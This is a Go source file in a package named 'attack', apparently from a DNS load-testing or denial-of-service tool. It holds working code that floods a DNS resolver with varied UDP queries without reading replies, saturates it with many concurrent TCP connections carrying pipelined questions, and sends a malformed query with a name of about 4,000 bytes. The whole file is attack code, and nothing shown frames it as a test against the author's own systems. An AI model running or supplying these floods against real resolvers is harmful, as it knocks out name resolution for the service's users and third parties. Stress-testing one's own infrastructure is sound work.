// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/miekg/dns"
)

// question packs the question for a name that nobody has asked before, or for the endpoint's.
func (a *attacker) question(n int64) ([]byte, error) {
	m := new(dns.Msg)
	name := a.Name
	if n%2 == 0 {
		name = fmt.Sprintf("n%d.%s", n, a.Name)
	}
	return m.SetQuestion(dns.Fqdn(name), []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeANY}[n%3]).Pack()
}

// dnsFlood asks the resolver and does not listen.
func dnsFlood(a *attacker) error {
	c, err := net.Dial("udp", netip.AddrPortFrom(a.Resolver, 53).String())
	if err != nil {
		return err
	}
	defer c.Close()
	var questions [][]byte // made before: what costs is to be the others'
	for n := range int64(1024) {
		q, err := a.question(n)
		if err != nil {
			return err
		}
		questions = append(questions, q)
	}
	a.begun()
	for n := 0; a.more(); n++ {
		_, err := c.Write(questions[n%len(questions)])
		a.count(err)
	}
	return nil
}

// dnsStream asks over many TCP connections, all questions of each at once.
func dnsStream(a *attacker) error {
	var all []byte
	for n := range int64(500) {
		q, err := a.question(n)
		if err != nil {
			return err
		}
		all = append(binary.BigEndian.AppendUint16(all, uint16(len(q))), q...)
	}
	a.begun()
	a.crowd(64, func() bool {
		c, err := dial(a.Resolver, 53)
		a.count(err)
		if err != nil {
			return true
		}
		defer drop(c)
		_ = c.SetDeadline(time.Now().Add(wait))
		go func() { _, _ = c.Write(all) }()
		_, _ = io.Copy(io.Discard, c)
		return true
	})
	return nil
}

// sendBig sends a name of 4,000 bytes, and reads what comes back.
func sendBig(to netip.Addr) error {
	c, err := net.Dial("udp", netip.AddrPortFrom(to, 53).String())
	if err != nil {
		return err
	}
	defer c.Close()
	b := []byte{1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	b = append(b, strings.Repeat("\x3f"+strings.Repeat("x", 63), 62)...)
	b = append(b, 0, 0, 1, 0, 1)
	_ = c.SetDeadline(time.Now().Add(20 * time.Millisecond))
	if _, err := c.Write(b); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 512))
	return err
}
